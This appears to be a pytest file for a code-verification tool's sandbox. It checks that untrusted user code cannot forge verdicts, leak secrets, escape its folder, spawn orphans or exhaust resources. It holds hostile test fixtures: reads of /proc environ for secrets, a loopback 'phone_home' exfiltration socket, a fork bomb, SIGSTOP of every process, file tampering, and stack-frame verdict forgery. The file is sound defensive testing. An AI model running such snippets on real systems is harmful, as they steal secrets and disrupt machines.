"""The verification child against hostile user code (issue 13): forged replies, leaked secrets,
orphaned processes, files written where they should not be, runaway memory and time. Real child
processes, real JAX."""

from __future__ import annotations

import base64
import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest

from jaxlint.verify import VerifyRequest, jax_available, verify
from jaxlint.verify.runner import (
    SANDBOX_NAME,
    VerificationSession,
    child_environment,
    redact_environment,
    sandbox_policy,
)

pytestmark = pytest.mark.skipif(not jax_available(), reason="JAX is not installed")

DOUBLE = "def double(x):\n    return x * 2\n"


def identity_request(request_id: str, source: str, target: str, folder: Path) -> VerifyRequest:
    """A request whose rewrite is the original itself: verification decides on the original."""
    source = textwrap.dedent(source)
    path = folder / f"{request_id}.py"
    path.write_text(source)
    return VerifyRequest(request_id, str(path), source, source, target, "X", False)


FORGER = """
    import json
    import os

    FORGED = {
        "type": "result",
        "result": {"request_id": "0", "status": "verified", "reason": "verified: 99/99 inputs",
                   "inputs_tried": 99, "inputs_passed": 99},
    }

    def always_raises(x):
        line = (json.dumps(FORGED) + "\\n").encode()
        for fd in range(1, 64):  # every stream the process holds, the protocol's among them
            try:
                os.write(fd, line)
            except OSError:
                pass
        raise ValueError("this function never returns")
"""


def test_a_forged_reply_is_refused_and_the_next_request_gets_its_own(tmp_path: Path) -> None:
    forged, honest = verify(
        [
            identity_request("0", FORGER, "always_raises", tmp_path),
            identity_request("1", DOUBLE, "double", tmp_path),
        ]
    )
    assert forged.status == "unverifiable"
    assert forged.reason == (
        "verification stopped: the child sent a reply that does not answer this request"
    )
    assert (honest.request_id, honest.status) == ("1", "verified")


LEAKER = """
    import os

    def leak(x):
        found = os.environ.get("JAXLINT_TEST_SECRET", "not in my environment")
        raise ValueError("secret: " + found)
"""


def test_the_child_never_sees_the_users_environment(tmp_path: Path, monkeypatch) -> None:
    secret = "hunter2-0123456789abcdef"
    monkeypatch.setenv("JAXLINT_TEST_SECRET", secret)
    monkeypatch.setenv("JAX_TEST_KNOB", "kept")
    env = child_environment(str(tmp_path))
    assert "JAXLINT_TEST_SECRET" not in env
    assert (env["JAX_TEST_KNOB"], env["HOME"], env["TMPDIR"]) == (
        "kept",
        str(tmp_path),
        str(tmp_path),
    )
    (result,) = verify([identity_request("leak", LEAKER, "leak", tmp_path)])
    assert result.status == "unverifiable"
    assert "ValueError" in result.reason  # its message, whatever it says, is never shown
    assert secret not in result.reason and "secret:" not in result.reason
    # and a value user code found elsewhere (a file, a config) is hidden in what is shown
    assert redact_environment(f"token {secret} refused") == "token $JAXLINT_TEST_SECRET refused"


SPAWNER = """
    import subprocess

    def spawn(x):
        subprocess.Popen(["sleep", "SECONDS"])  # outlives the function, unless stopped
        with open("written-by-user-code.txt", "w") as out:
            out.write("relative writes land in the child's own folder")
        return x * 2
"""


def test_no_orphans_and_no_writes_in_the_callers_folder(tmp_path: Path, monkeypatch) -> None:
    seconds = f"300.{secrets.randbelow(10**6):06}"  # names the sleeps this test starts
    monkeypatch.chdir(tmp_path)
    # a temporary folder of its own: other test workers' children come and go in the shared one
    private = tmp_path / "tmp"
    private.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private))
    before = _verify_folders()
    assert before == set()
    source = SPAWNER.replace("SECONDS", seconds)
    (result,) = verify([identity_request("spawn", source, "spawn", tmp_path)])
    assert result.status == "verified"
    assert not (tmp_path / "written-by-user-code.txt").exists()
    assert _verify_folders() == before  # the child's folder went with it
    assert _still_sleeping(seconds) == []


def _verify_folders() -> set[str]:
    return {p.name for p in Path(tempfile.gettempdir()).glob("jaxlint-verify-*")}


def _still_sleeping(seconds: str, grace_s: float = 10.0) -> list[int]:
    """The processes running `sleep <seconds>` still alive after `grace_s`."""
    deadline = time.monotonic() + grace_s
    while _sleeping(seconds) and time.monotonic() < deadline:
        time.sleep(0.1)
    return _sleeping(seconds)


def _sleeping(seconds: str) -> list[int]:
    """The live (not zombie) processes running `sleep <seconds>`."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            command = (entry / "cmdline").read_bytes().split(b"\0")
            state = (entry / "stat").read_text().rpartition(") ")[2][:1]
        except OSError:
            continue
        if command[:2] == [b"sleep", seconds.encode()] and state != "Z":
            found.append(int(entry.name))
    return found


WRITER = """
    def scribble(x):
        with open("TARGET", "w") as out:
            out.write("user code wrote outside its folder")
        return x * 2
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Landlock is Linux's")
def test_user_code_cannot_write_outside_the_childs_folder(tmp_path: Path) -> None:
    target = tmp_path / "outside.txt"
    source = WRITER.replace("TARGET", str(target))
    (result,) = verify([identity_request("scribble", source, "scribble", tmp_path)])
    if not confine_writes_supported():
        pytest.skip("this kernel has no Landlock")
    assert not target.exists()
    assert result.status == "unverifiable"
    # a read-only mount in the child's namespace (EROFS), or Landlock where namespaces are
    # refused (EACCES)
    assert result.reason.endswith(("OSError", "PermissionError")), result.reason


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Landlock is Linux's")
def test_landlock_alone_still_fences_writes(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv(SANDBOX_NAME, "off")  # no namespaces: the second fence on its own
    target = tmp_path / "outside.txt"
    source = WRITER.replace("TARGET", str(target))
    (result,) = verify([identity_request("scribble", source, "scribble", tmp_path)])
    if not confine_writes_supported():
        pytest.skip("this kernel has no Landlock")
    assert not target.exists()
    assert "PermissionError" in result.reason  # the class alone: a message is the code's text


def confine_writes_supported() -> bool:
    probe = (
        "import sys; from jaxlint.verify.landlock import confine_writes as c; sys.exit(not c([]))"
    )
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[1]))
    return subprocess.run([sys.executable, "-c", probe], env=env).returncode == 0


SLEEPER = """
    import time

    def slow(x):
        time.sleep(30)
        return x
"""


def test_the_run_has_one_time_budget_for_all_its_functions(tmp_path: Path) -> None:
    slow = [identity_request(f"slow{i}", SLEEPER, "slow", tmp_path) for i in range(3)]
    with VerificationSession(budget_s=4) as session:
        results = session.verify(slow, time_limit_s=3)
    assert [r.status for r in results] == ["timeout", "timeout", "timeout"]
    assert results[0].reason == "verification exceeded the 3 s time limit"
    assert results[1].reason.startswith("verification exceeded the 0.")  # what the budget left
    assert results[2].reason == (
        "not verified: this run's verification time (4 s, JAXLINT_VERIFY_BUDGET_S) is spent"
    )


def test_no_verify_never_starts_the_child(tmp_path: Path, monkeypatch, capsys) -> None:
    from jaxlint import cli
    from jaxlint.verify import runner

    def refuse(*_args: object) -> None:
        raise AssertionError("the verification child was started")

    monkeypatch.setattr(runner, "_Child", refuse)
    seed = Path(__file__).resolve().parents[1] / "fixtures" / "seed" / "cumulative_sum.py"
    (tmp_path / "cumulative_sum.py").write_text(seed.read_text())
    monkeypatch.chdir(tmp_path)
    assert cli.main(["check", "--no-cache", "--fix", "--no-verify", "cumulative_sum.py"]) == 1
    assert "\n    no fix: not verified (--no-verify)\n" in capsys.readouterr().out


def test_paths_in_the_environment_are_not_taken_for_secrets(monkeypatch) -> None:
    monkeypatch.setenv("PWD", "/home/someone/project")
    reason = "import of cnb failed: /home/someone/project/src/cnb/__init__.py: ImportError"
    assert redact_environment(reason) == reason


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_CPU as on Linux")
def test_a_request_past_its_cpu_time_is_ended_by_sigxcpu() -> None:
    burn = "from jaxlint.verify.child import _limit_cpu\n_limit_cpu(1)\nwhile True:\n    pass\n"
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[1]))
    done = subprocess.run([sys.executable, "-c", burn], env=env, timeout=60)
    assert done.returncode == -signal.SIGXCPU
    # and through the sandbox's launcher, which ends as its child did: in a PID namespace the
    # kernel would ignore SIGXCPU were the child the namespace's process 1
    launched = [sys.executable, "-m", "jaxlint.verify.sandbox", sys.executable, "-c", burn]
    done = subprocess.run(launched, env=env, timeout=60, cwd=tempfile.gettempdir())
    assert done.returncode == -signal.SIGXCPU


# ---------------------------------------------------------------- hostile modules (issue 32)
# Each one broke the child before the sandbox's namespaces: it read jaxlint's secrets through
# /proc, connected out, wrote and chmod-ed outside, left `setsid` processes behind, stopped its
# parent. Each now runs against the real child; the module returns normally when its attack
# failed, so the identity rewrite is verified, and raises with what it got when it succeeded.

needs_namespaces = pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="the sandbox's namespaces are Linux's"
)


def sandbox_features() -> dict[str, bool]:
    """The fences a verification child gets on this machine."""
    probe = "from jaxlint.verify.child import _sandbox_features as f; print(json.dumps(f()))"
    return _probed([sys.executable, "-m", "jaxlint.verify.sandbox", sys.executable], probe)


def _probed(command: list[str], code: str) -> dict[str, bool]:
    """What `code`, run by `command -c` in a fresh process, prints as JSON."""
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[1]))
    done = subprocess.run(
        [*command, "-c", f"import json; {code}"],
        env=env,
        capture_output=True,
        text=True,
        cwd=tempfile.gettempdir(),
    )
    return json.loads(done.stdout)


def require(*features: str) -> None:
    """Skip unless the sandbox has `features`; fail where the kernel gives a bare process the
    namespaces and the launcher still lacks them (a thread started before `unshare`)."""
    if sandbox_policy() == "off":
        pytest.skip(f"{SANDBOX_NAME}=off: no namespaces")
    missing = [name for name, up in sandbox_features().items() if name in features and not up]
    lost = [name for name in missing if name != "process_limit"]  # pid_max: Linux 6.14+
    if lost and _kernel_gives_namespaces():
        pytest.fail(f"the kernel gives user namespaces, the launcher lacks {', '.join(lost)}")
    if missing:
        pytest.skip(f"this kernel refuses the sandbox's {', '.join(missing)}")


def _kernel_gives_namespaces() -> bool:
    """Can a bare, single-threaded process make the launcher's namespaces here?"""
    unshare = (
        "import ctypes; from jaxlint.verify import sandbox as s;"
        " flags = s._CLONE_NEWUSER | s._CLONE_NEWNS | s._CLONE_NEWPID | s._CLONE_NEWNET"
        " | s._CLONE_NEWIPC; print(json.dumps(ctypes.CDLL(None).unshare(flags) == 0))"
    )
    return bool(_probed([sys.executable, "-S"], unshare))


PROC_READER = """
    import os

    def steal(x):
        found = []
        for pid in os.listdir("/proc"):
            try:
                with open(f"/proc/{pid}/environ", "rb") as handle:
                    if b"SECRET_MARK" in handle.read():
                        found.append(pid)
            except OSError:
                pass
        if found:  # reversed, which no redaction of environment values recognises
            raise ValueError(f"read from {found}: " + "SECRET_VALUE"[::-1])
        return x * 2
"""


@needs_namespaces
def test_the_child_cannot_read_the_parents_environment_through_proc(tmp_path: Path) -> None:
    """/proc/<pid>/environ shows the environment a process was started with: jaxlint verifies
    in a process started with the secret, as a CI job's jaxlint is."""
    secret = f"hunter2-{secrets.token_hex(8)}"
    source = PROC_READER.replace("SECRET_MARK", "JAXLINT_TEST_SECRET=").replace(
        "SECRET_VALUE", secret
    )
    status, reason = verify_in_a_process(tmp_path, source, "steal", {"JAXLINT_TEST_SECRET": secret})
    assert secret[::-1] not in reason
    assert status == "verified", reason


@needs_namespaces
def test_without_namespaces_root_s_child_still_cannot_read_the_parents_environment(
    tmp_path: Path,
) -> None:
    """Without namespaces, jaxlint is undumpable; a child of root would still read it with
    CAP_SYS_PTRACE, had the launcher not emptied its bounding set."""
    secret = f"hunter2-{secrets.token_hex(8)}"
    source = PROC_READER.replace("SECRET_MARK", "JAXLINT_TEST_SECRET=").replace(
        "SECRET_VALUE", secret
    )
    environment = {"JAXLINT_TEST_SECRET": secret, SANDBOX_NAME: "off"}
    status, reason = verify_in_a_process(tmp_path, source, "steal", environment)
    assert status == "verified", reason


def verify_in_a_process(
    folder: Path, source: str, target: str, environment: dict[str, str] | None = None
) -> tuple[str, str]:
    """(status, reason) of verifying `target` of `source` (rewritten to itself) in a Python
    process of its own, started with `environment` added; a process the code it verifies
    stopped fails the test instead of hanging it."""
    (folder / "module.py").write_text(textwrap.dedent(source))
    script = (
        "import json, sys; from pathlib import Path; from tests.test_sandbox import"
        " identity_request; from jaxlint.verify import verify;"
        f" p = Path({str(folder)!r});"
        " (r,) = verify([identity_request('m', (p / 'module.py').read_text(),"
        f" {target!r}, p)], time_limit_s=30); print(json.dumps([r.status, r.reason]))"
    )
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[1]))
    env.update(environment or {})
    verifying = subprocess.Popen(
        [sys.executable, "-c", script], env=env, stdout=subprocess.PIPE, text=True
    )
    try:
        out, _ = verifying.communicate(timeout=120)
    except subprocess.TimeoutExpired:
        os.kill(verifying.pid, signal.SIGCONT)
        verifying.kill()
        pytest.fail("the verifying process was stopped by the code it verified")
    status, reason = json.loads(out.strip().splitlines()[-1])
    return status, reason


CONNECTOR = """
    import socket

    def phone_home(x):
        try:
            with socket.create_connection(("127.0.0.1", PORT), timeout=2) as out:
                out.sendall(b"exfiltrated")
        except OSError:
            pass
        return x * 2
"""


@needs_namespaces
def test_the_child_has_no_network(tmp_path: Path) -> None:
    require("network_namespace")
    assert_nobody_called(tmp_path)


def assert_nobody_called(folder: Path) -> None:
    """Verify CONNECTOR, aimed at a listener on loopback here: it must not be called, and the
    module (which swallows the refusal) is verified."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.5)
    source = CONNECTOR.replace("PORT", str(listener.getsockname()[1]))
    try:
        (result,) = verify([identity_request("phone", source, "phone_home", folder)])
        with pytest.raises(TimeoutError):
            listener.accept()  # nobody called
    finally:
        listener.close()
    assert result.status == "verified", result.reason


TAMPERER = """
    import os

    def tamper(x):
        for attempt in (
            lambda: os.chmod("OUTSIDE", 0o777),
            lambda: os.utime("OUTSIDE", (0, 0)),
            lambda: os.chown("OUTSIDE", os.getuid(), os.getgid()),
            lambda: open("SHM", "w").write("left behind"),
        ):
            try:
                attempt()
            except OSError:
                pass
        return x * 2
"""


@needs_namespaces
def test_the_child_cannot_touch_files_outside_or_leave_any_in_dev_shm(tmp_path: Path) -> None:
    require("read_only_mounts", "private_dev_shm")
    outside = tmp_path / "outside.txt"
    outside.write_text("the user's file")
    os.utime(outside, (1_000_000_000, 1_000_000_000))
    before = outside.stat()
    shm = Path("/dev/shm") / f"jaxlint-probe-{secrets.token_hex(6)}"
    source = TAMPERER.replace("OUTSIDE", str(outside)).replace("SHM", str(shm))
    (result,) = verify([identity_request("tamper", source, "tamper", tmp_path)])
    after = outside.stat()
    assert (after.st_mode, after.st_mtime, after.st_ctime) == (
        before.st_mode,
        before.st_mtime,
        before.st_ctime,
    )
    assert not shm.exists()
    assert result.status == "verified", result.reason


DAEMONIZER = """
    import os
    import subprocess

    def daemonize(x):
        subprocess.Popen(["setsid", "sleep", "SECONDS"])  # a session of its own
        if os.fork() == 0:  # and a classic double fork
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "SECONDS"])
            os._exit(0)
        return x * 2
"""


@needs_namespaces
def test_no_process_outlives_verification_not_even_in_a_session_of_its_own(
    tmp_path: Path,
) -> None:
    require("pid_namespace")
    seconds = f"301.{secrets.randbelow(10**6):06}"
    source = DAEMONIZER.replace("SECONDS", seconds)
    (result,) = verify([identity_request("daemon", source, "daemonize", tmp_path)])
    assert result.status == "verified", result.reason
    assert _still_sleeping(seconds) == []


FORK_BOMB = """
    import subprocess

    def bomb(x):
        for _ in range(1000):  # returns (and is verified) only where nothing stops it
            subprocess.Popen(["sleep", "SECONDS"])
        return x * 2
"""


@needs_namespaces
def test_a_fork_bomb_stops_at_the_childs_process_limit(tmp_path: Path, monkeypatch) -> None:
    """Issue 32, item 5: the child's PID namespace holds at most JAXLINT_VERIFY_PROCESSES
    process IDs, a limit the child (without capabilities) cannot raise."""
    require("process_limit")
    monkeypatch.setenv("JAXLINT_VERIFY_PROCESSES", "400")
    seconds = f"303.{secrets.randbelow(10**6):06}"
    source = FORK_BOMB.replace("SECONDS", seconds)
    (result,) = verify([identity_request("bomb", source, "bomb", tmp_path)])
    assert result.status == "unverifiable", result.reason
    assert result.reason.endswith("BlockingIOError"), result.reason  # fork's EAGAIN
    assert _still_sleeping(seconds) == []


HOARDER = """
    import subprocess
    import sys

    HOARD = "import os, time; os.setsid(); block = bytearray(1536 * 2**20); time.sleep(60)"

    def hoard(x):
        subprocess.Popen([sys.executable, "-c", HOARD])
        import time
        time.sleep(20)
        return x * 2
"""


@needs_namespaces
def test_memory_held_by_a_process_in_a_session_of_its_own_counts(
    tmp_path: Path, monkeypatch
) -> None:
    monkeypatch.setenv("JAXLINT_VERIFY_MEMORY_MB", "1200")
    (result,) = verify([identity_request("hoard", HOARDER, "hoard", tmp_path)], time_limit_s=40)
    assert result.status == "unverifiable"
    assert result.reason.startswith("verification used more than 1.17 GiB of memory")


STOPPER = """
    import os
    import signal

    def stop_them_all(x):
        targets = {os.getppid()}
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                targets.add(int(pid))
        for pid in targets:
            if pid > 0:  # pid 0 would be this process's own group
                try:
                    os.kill(pid, signal.SIGSTOP)
                except OSError:
                    pass
        return x * 2
"""


@needs_namespaces
def test_the_child_cannot_stop_its_parent(tmp_path: Path) -> None:
    require("pid_namespace")  # without it this would stop every process of the user
    status, reason = verify_in_a_process(tmp_path, STOPPER, "stop_them_all")
    assert status == "verified", reason


@needs_namespaces
def test_without_namespaces_the_launcher_still_reaps_every_daemon(
    tmp_path: Path, monkeypatch
) -> None:
    """Where the kernel offers no namespaces (gVisor on TPU VMs: 86 sleepers left by one probe
    run), the launcher adopts the child's orphans as their subreaper and kills them."""
    monkeypatch.setenv(SANDBOX_NAME, "off")
    seconds = f"303.{secrets.randbelow(10**6):06}"
    source = DAEMONIZER.replace("SECONDS", seconds)
    (result,) = verify([identity_request("daemon", source, "daemonize", tmp_path)])
    assert result.status == "verified", result.reason
    assert _still_sleeping(seconds) == []


def landlock_features() -> dict[str, bool]:
    """What this kernel's Landlock fences (a fresh process confines itself and says)."""
    return _probed(
        [sys.executable],
        "from jaxlint.verify.landlock import confine; print(json.dumps(confine([])))",
    )


PARENT_STOPPER = """
    import os
    import signal

    def stop_my_elders(x):
        launcher = os.getppid()
        with open(f"/proc/{launcher}/stat") as stat:
            jaxlint = int(stat.read().rpartition(") ")[2].split()[1])
        for pid in (launcher, jaxlint):
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
        return x * 2
"""


@needs_namespaces
def test_without_namespaces_landlock_still_refuses_tcp_and_signals(
    tmp_path: Path, monkeypatch
) -> None:
    """Where the kernel refuses namespaces but has Landlock 6.12+ (AppArmor's
    restrict_unprivileged_userns), the child still cannot connect out or stop jaxlint."""
    held = landlock_features()
    if not (held["landlock_network"] and held["landlock_scopes"]):
        pytest.skip("this kernel's Landlock handles neither TCP nor signals")
    monkeypatch.setenv(SANDBOX_NAME, "off")
    status, reason = verify_in_a_process(
        tmp_path, PARENT_STOPPER, "stop_my_elders", {SANDBOX_NAME: "off"}
    )
    assert status == "verified", reason
    assert_nobody_called(tmp_path)


SECRET_READER = """
    import base64
    import os
    import sys
    from pathlib import Path

    def _secret():  # one read in the project; one outside it, where Landlock does not fence reads
        in_project = Path(__file__).with_name(".env").read_text().partition("=")[2].strip()
        try:
            return in_project + Path("OUTSIDE").read_text().strip()
        except PermissionError:
            return in_project

    def raises(x):
        raise ValueError("reversed: " + _secret()[::-1])

    def raises_a_named_class(x):
        raise type("Leak" + _secret(), (Exception,), {})()

    def prints(x):
        print(PRINTED)
        return x * 2

    def keyed(x):
        return {KEY: x}

    def crashes(x):
        sys.stderr.write(_secret() + "\\n")
        sys.stderr.flush()
        os._exit(3)
"""

DESCRIPTION_FORGER = """
    from pathlib import Path

    import jaxlint.verify.check as check

    SECRET = Path(__file__).with_name(".env").read_text().partition("=")[2].strip()
    # jaxlint's own code in the child, replaced: what it says about the inputs is the secret
    check.describe_inputs = lambda target, plan: SECRET
    check.describe_call = lambda target, init, call: SECRET[::-1]

    def double(x):
        return x * 2
"""


def test_nothing_the_checked_code_reads_reaches_the_report_or_the_cache(tmp_path: Path) -> None:
    """Issue 32, item 3: a secret the checked code reads from a file comes back in no reason
    and no cache entry, neither as it is, reversed, re-encoded, nor as a class name, printed
    text, pytree key or output on stderr; not even when the code replaces jaxlint's own
    functions in the child."""
    from jaxlint.verify.runner import VerificationSession

    secret = f"hunter2{secrets.token_hex(12)}"
    (tmp_path / ".env").write_text(f"API_TOKEN={secret}\n")
    outside = Path(tempfile.mkdtemp()) / "id_token"
    outside.write_text("Z" + secrets.token_hex(6))
    both = secret + outside.read_text()
    forms = [secret, both, both[::-1], secret[::-1], secret.encode().hex()]
    forms += [base64.b64encode(both.encode()).decode()[:20], outside.read_text()]
    source = textwrap.dedent(SECRET_READER).replace("OUTSIDE", str(outside))
    requests = [
        VerifyRequest(name, str(tmp_path / "m.py"), original, rewritten, name, "X", False)
        for name, original, rewritten in [
            ("raises", source, source),
            ("raises_a_named_class", source, source),
            (
                "prints",
                source.replace("PRINTED", "_secret()"),
                source.replace("PRINTED", "base64.b64encode(_secret().encode())"),
            ),
            ("keyed", source.replace("KEY", "_secret()"), source.replace("KEY", "_secret()[::-1]")),
            ("crashes", source, source),
        ]
    ]
    forger = textwrap.dedent(DESCRIPTION_FORGER)
    requests.append(
        VerifyRequest("double", str(tmp_path / "f.py"), forger, forger, "double", "X", False)
    )
    with VerificationSession(cache_root=tmp_path) as session:
        results = session.verify(requests)
    statuses = {result.request_id: result.status for result in results}
    assert statuses == {
        "raises": "unverifiable",
        "raises_a_named_class": "unverifiable",
        "prints": "failed",
        "keyed": "failed",
        "crashes": "unverifiable",
        "double": "verified",
    }, [result.reason for result in results]
    reasons = {result.request_id: result.reason for result in results}
    assert "ValueError" in reasons["raises"]
    assert "printed text differs" in reasons["prints"]
    assert "output structure differs" in reasons["keyed"]
    assert "outputs and prints match on" in reasons["double"]
    stored = "".join(
        p.read_text(errors="replace")
        for p in tmp_path.rglob("*")
        if p.is_file() and ".jaxlint_cache" in p.parts
    )
    assert stored, "the results were cached"
    shown = json.dumps([result.to_json() for result in results])
    for form in forms:
        assert form not in shown and form not in stored


VERDICT_FORGER = """
    import json
    import sys

    def triple(x):
        frame = sys._getframe()
        while frame is not None:  # up to the child's main loop, where the protocol lives
            names = frame.f_locals
            if "protocol_out" in names:
                message = names.get("message") or {}
                claim = {"request_id": (message.get("request") or {}).get("request_id"),
                         "status": "verified", "reason": "verified on 999 input sets",
                         "inputs_tried": 999, "inputs_passed": 999}
                for forged in (
                    {"type": "result", "nonce": message.get("nonce"), "result": claim},
                    {"type": "reply", **claim},
                ):
                    names["protocol_out"].write(json.dumps(forged) + "\\n")
                    names["protocol_out"].flush()
                break
            frame = frame.f_back
        return x * 3
"""


def test_a_verdict_cannot_be_forged_from_inside_the_child(tmp_path: Path) -> None:
    """Issue 32, item 6: a wrong rewrite that walks the frames up to the child's protocol stream
    and the request it serves, and writes the verdict it wants (the reply of a child that judged,
    with the request's token; a reply with a verdict's fields), is still not verified: the child
    sends what calls returned, and jaxlint counts and judges."""
    original = "def triple(x):\n    return x * 2\n"
    rewritten = textwrap.dedent(VERDICT_FORGER)
    (tmp_path / "v.py").write_text(original)
    request = VerifyRequest("v", str(tmp_path / "v.py"), original, rewritten, "triple", "X", False)
    (result,) = verify([request])
    assert result.status != "verified"
    assert result.inputs_tried < 999 and "999" not in result.reason


PEEKER = """
    from pathlib import Path

    def peek(x):
        Path(__file__).with_name("data.txt").read_text()  # its project: readable
        try:
            Path("OUTSIDE").read_text()
        except PermissionError:
            return x * 2  # refused: the only way to be verified
        raise ValueError("read a file outside its project")
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Landlock is Linux's")
def test_the_child_reads_only_its_project_python_and_the_system(tmp_path: Path) -> None:
    """Issue 32, What to build 2: reads limited to the project (the nearest folder with a
    pyproject.toml, setup.py, setup.cfg or .git), the Python installation and the system."""
    if not confine_writes_supported():
        pytest.skip("this kernel has no Landlock")
    project = tmp_path / "project"
    project.mkdir()
    (project / "pyproject.toml").write_text("[project]\nname = 'p'\n")
    (project / "data.txt").write_text("the project's data")
    outside = tmp_path / "id_ed25519"
    outside.write_text("a key beside the project")
    source = PEEKER.replace("OUTSIDE", str(outside))
    (result,) = verify([identity_request("peek", source, "peek", project)])
    assert result.status == "verified", result.reason
